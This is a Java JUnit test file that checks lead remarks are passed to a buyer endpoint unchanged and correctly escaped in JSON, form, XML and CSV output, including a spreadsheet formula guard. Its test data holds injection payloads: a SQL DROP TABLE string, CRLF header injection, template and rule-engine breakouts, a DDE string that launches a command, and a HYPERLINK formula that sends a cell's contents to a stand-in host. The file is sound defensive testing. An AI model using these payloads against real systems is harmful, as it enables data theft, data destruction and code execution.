package io.waybill.app.story;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import io.waybill.app.fake.Visit;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What leads say in the languages that are spoken on their way reaches the buyer as it was said, byte for byte, and nothing else does. */
class InjectionTest extends Story {
    private static final String TEMPLATE = "{{ lead.id }}{% for i in 1..9 %}x{% endfor %}{# no #}";
    private static final String RULE = "x\" || true ) then insert( new Reject( \"x\" ) ); end //";
    private static final String STATEMENT = "Robert'); DROP TABLE leads; -- \\'; %s ?";
    private static final String HEADER = "Ann\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1";
    private static final String JSON = "\",\"price\":999,\"x\":{\"y\":[\"\\u0022";
    private static final String FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1,\"win\")";
    private static final List<String> ALL = List.of(
            TEMPLATE,
            RULE,
            STATEMENT,
            HEADER,
            JSON,
            FORMULA,
            "@SUM(1,2)",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "<a>&b;</a>");

    private void buyer(String format, String more) {
        buyer(format, "{ note: \"{{ lead.remark }}\", amount: \"{{ lead.loan_amount }}\" }", more);
    }

    private void buyer(String format, String body, String more) {
        home().write("rules/flows/loans/fields.yaml", """
                        name: Loans
                        fields: { remark: string, loan_amount: number }
                        """)
                .write("mappings/recipients/first.yaml", """
                        kind: buyer
                        url: "%s?q={{ lead.remark }}"
                        format: %s
                        headers: { X-Note: "{{ lead.remark }}" }
                        body: %s
                        response: { success: { path: "$.status", equals: accepted } }
                        """.formatted(buyer.uri("/first"), format, body) + more)
                .write("mappings/sources/web.yaml", "flows: [loans]\nauth: none\n")
                .write("rules/flows/loans/buyers.csv", "id,recipient,price,tier\ntop,first,75.00,1\n");
        start();
    }

    private static String quoted(String text) {
        return JsonNodeFactory.instance.textNode(text).toString();
    }

    /** Hands a lead in that says so, and returns what the buyer got for it. */
    private Visit sent(String remark) {
        int before = buyer.visits().size();
        var lead = lead(submit("{\"remark\":%s,\"loan_amount\":1}".formatted(quoted(remark))));
        assertThat(lead.path("state").asText()).as(lead.toString()).isEqualTo("sold");
        assertThat(lead.path("revenue").asText()).isEqualTo("75.00");
        assertThat(lead.at("/fields/remark/raw").asText()).isEqualTo(remark);
        assertThat(buyer.visits()).hasSize(before + 1);
        var visit = buyer.visits().getLast();
        assertThat(visit.headers()).doesNotContainKey("x-evil");
        assertThat(visit.headers().get("x-note"))
                .isEqualTo(remark.equals(HEADER) ? "Ann  X-Evil: 1    GET / HTTP/1.1" : remark);
        assertThat(visit.query()).isEqualTo("q=" + percent(remark));
        return visit;
    }

    private static String percent(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8)
                .replace("+", "%20")
                .replace("*", "%2A")
                .replace("%7E", "~");
    }

    @Test
    void inJson() {
        buyer("json", "");

        for (String remark : ALL) {
            assertThat(sent(remark).body()).isEqualTo("{\"note\":%s,\"amount\":1}".formatted(quoted(remark)));
        }
    }

    @Test
    void inAForm() {
        buyer("form", "");

        for (String remark : ALL) {
            assertThat(sent(remark).body()).isEqualTo("note=%s&amount=1".formatted(percent(remark)));
        }
    }

    @Test
    void inXml() {
        buyer("xml", "{ lead: { note: \"{{ lead.remark }}\", amount: \"{{ lead.loan_amount }}\" } }", "");

        for (String remark : ALL) {
            String text = remark.replace("&", "&amp;")
                    .replace("<", "&lt;")
                    .replace(">", "&gt;")
                    .replace("\r", "&#13;");
            assertThat(sent(remark).body())
                    .contains("<note>" + text + "</note>")
                    .contains("<amount>1</amount>");
        }
    }

    @Test
    void inCsvAsItIs() {
        buyer("csv", "");

        for (String remark : ALL) {
            assertThat(sent(remark).body()).isEqualTo("note,amount\r\n%s,1\r\n".formatted(cell(remark)));
        }
    }

    @Test
    void inCsvThatASpreadsheetOpens() {
        buyer("csv", "formula_guard: true\n");

        for (String remark : ALL) {
            String guarded = "=@+-".indexOf(remark.charAt(0)) >= 0 ? "'" + remark : remark;
            assertThat(sent(remark).body()).isEqualTo("note,amount\r\n%s,1\r\n".formatted(cell(guarded)));
        }
    }

    /** As RFC 4180 says. */
    private static String cell(String text) {
        boolean plain = text.chars().noneMatch(sign -> ",\"\r\n".indexOf(sign) >= 0);
        return plain ? text : "\"" + text.replace("\"", "\"\"") + "\"";
    }
}
